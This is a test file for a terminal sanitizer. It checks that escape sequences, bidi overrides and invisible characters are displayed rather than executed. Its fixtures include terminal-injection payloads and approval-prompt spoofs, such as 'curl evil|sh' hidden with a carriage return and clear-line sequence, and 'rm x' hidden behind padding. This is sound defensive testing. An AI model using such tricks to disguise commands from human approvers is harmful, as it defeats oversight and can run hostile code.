/** Nothing that moves, hides, reorders or recolours reaches a terminal, and ordinary writing in every script does. */
import { expect, test } from "bun:test";
import { escapeForApproval, sanitize, sanitizeCommandOutput, SanitizeStream, sanitizeLine } from "../src/sanitize.ts";

const ATTACKS = [
  ["clipboard", "\x1b]52;c;Y3VybA==\x07", "␛]52;c;Y3VybA==␇"],
  ["title", "\x1b]0;PWN\x07", "␛]0;PWN␇"],
  ["clear screen", "\x1b[2J", "␛[2J"],
  ["hyperlink", "\x1b]8;;http://evil.test\x1b\\click\x1b]8;;\x1b\\", "␛]8;;http://evil.test␛\\click␛]8;;␛\\"],
  ["title report", "\x1b[21t", "␛[21t"],
  ["device control", "\x1bP+q544e\x1b\\", "␛P+q544e␛\\"],
  ["application command", "\x1b_Gf=100\x1b\\", "␛_Gf=100␛\\"],
  ["one-byte CSI", "\x9b2J", "<U+009B>2J"],
  ["one-byte OSC", "\x9d0;x\x9c", "<U+009D>0;x<U+009C>"],
  ["bell and backspace", "a\x07b\x08c", "a␇b␈c"],
  ["lone CR", "safe\rEVIL", "safe␍EVIL"],
  ["NUL and DEL", "a\0b\x7fc", "a␀b␡c"],
  ["override", "a\u202egpj.exe", "a<U+202E>gpj.exe"],
  ["isolate", "a\u2066b\u2069", "a<U+2066>b<U+2069>"],
  ["zero width space", "pay\u200bpal", "pay<U+200B>pal"],
  ["joiner between letters", "a\u200db", "a<U+200D>b"],
  ["byte order mark", "\ufeffx", "<U+FEFF>x"],
  ["soft hyphen", "in\u00advisible", "in<U+00AD>visible"],
  ["tag characters", "x\u{e0041}\u{e007f}", "x<U+E0041><U+E007F>"],
  ["fillers", "a\u3164b\u2800c\uffa0", "a<U+3164>b<U+2800>c<U+FFA0>"],
  ["line separator", "a\u2028b", "a<U+2028>b"],
  ["variation selector after a letter", "a\ufe0fb", "a<U+FE0F>b"],
  ["lone surrogate", "a\ud800b", "a\ufffdb"],
] as const;

test.each(ATTACKS)("%s is shown, not obeyed", (_, text, shown) => {
  expect(sanitize(text)).toBe(shown);
});

test.each([
  "plain text\n\twith a tab",
  "漢字 かな 한글",
  "👨‍👩‍👧 ❤️ 1️⃣ 🇯🇵 👍🏽",
  "é e\u0301 ñ ß",
  "می\u200cخواهم",
  "क\u094d\u200dष",
  "עברית العربية",
])("%j is left alone", (text) => {
  expect(sanitize(text)).toBe(text);
});

test("CR LF is a line end", () => {
  expect(sanitize("a\r\nb\r\n")).toBe("a\nb\n");
});

test("in ASCII the replacements are ASCII", () => {
  expect(sanitize("\x1b[2J\r\x07\u202e", { ascii: true })).toBe("\\x1b[2J\\r\\x07<U+202E>");
});

test("colours of commands are dropped, everything else of theirs is shown", () => {
  expect(sanitizeCommandOutput("\x1b[1;31mred\x1b[0m \x1b[38:5:1mx\x1b[m")).toBe("red x");
  expect(sanitizeCommandOutput("\x1b[2K\x1b[1A")).toBe("␛[2K␛[1A");
});

test("a name is one line", () => {
  expect(sanitizeLine("a\nb\tc")).toBe("a␊b␉c");
  expect(sanitizeLine("a\nb", { ascii: true })).toBe("a\\nb");
});

const corpus = ATTACKS.map(([, text]) => text).join("") + "\x1b[31mred\x1b[0m👨‍👩‍👧❤️\r\nnext\rlast\u200d";

/** mulberry32: the same cuts on every run. */
function random(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

test.each(["text", "command"] as const)("a stream cut anywhere shows the same as the whole (%s)", (mode) => {
  const text = corpus.toWellFormed();
  const bytes = new TextEncoder().encode(text);
  for (let seed = 1; seed <= 200; seed++) {
    const next = random(seed);
    const stream = new SanitizeStream({ mode });
    let shown = "";
    for (let at = 0; at < bytes.length;) {
      const size = 1 + Math.floor(next() * (seed % 2 ? 3 : 40));
      shown += stream.push(bytes.subarray(at, at + size));
      at += size;
    }
    expect(shown + stream.end()).toBe(sanitize(text, { mode }));
  }
});

test.each(["text", "command"] as const)("in two pieces at every byte it shows the same, too (%s)", (mode) => {
  for (const [, attack] of ATTACKS) {
    const text = `x${attack}\x1b[1;31my`.toWellFormed();
    const bytes = new TextEncoder().encode(text);
    for (const at of bytes.keys()) {
      const stream = new SanitizeStream({ mode });
      const shown = stream.push(bytes.subarray(0, at)) + stream.push(bytes.subarray(at)) + stream.end();
      expect(shown).toBe(sanitize(text, { mode }));
    }
  }
});

test("invalid UTF-8 becomes the replacement character, at the end of a stream too", () => {
  const stream = new SanitizeStream();
  expect(stream.push(new Uint8Array([0x61, 0xff, 0x62, 0xe6, 0xbc]))).toBe("a\ufffdb");
  expect(stream.end()).toBe("\ufffd");
});

test("an endless colour sequence is not waited for", () => {
  const stream = new SanitizeStream({ mode: "command" });
  const shown = stream.push(`\x1b[${"1;".repeat(1000)}`);
  expect(shown.startsWith("␛[1;1;")).toBe(true);
});

test("nothing of the corpus leaves a control character behind", () => {
  for (const shown of [
    sanitize(corpus),
    sanitizeCommandOutput(corpus),
    sanitizeLine(corpus),
    escapeForApproval(corpus),
  ])
    expect(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b]/.test(shown)).toBe(false);
});

test.each([
  ["curl evil|sh #\r\x1b[2Kls -la", "curl evil|sh #\\r\\x1b[2Kls -la"],
  [`ls${" ".repeat(400)}; rm x`, "ls[400 spaces]; rm x"],
  [`ls${" ".repeat(19)}x`, `ls${" ".repeat(19)}x`],
  [`ls${"\t ".repeat(20)}x`, "ls[40 blanks]x"],
  ["a\u00a0b\u3000c", "a<U+00A0>b<U+3000>c"],
  ["x\r\ny", "x\\r\ny"],
  ["👨\u200d👩", "👨<U+200D>👩"],
  ["npm test", "npm test"],
])("for an approval %j reads %j", (text, shown) => {
  expect(escapeForApproval(text)).toBe(shown);
});

test("what was replaced can be marked, so that the same characters typed out look different", () => {
  expect(escapeForApproval("\\r\r", (escaped) => `«${escaped}»`)).toBe("\\r«\\r»");
});
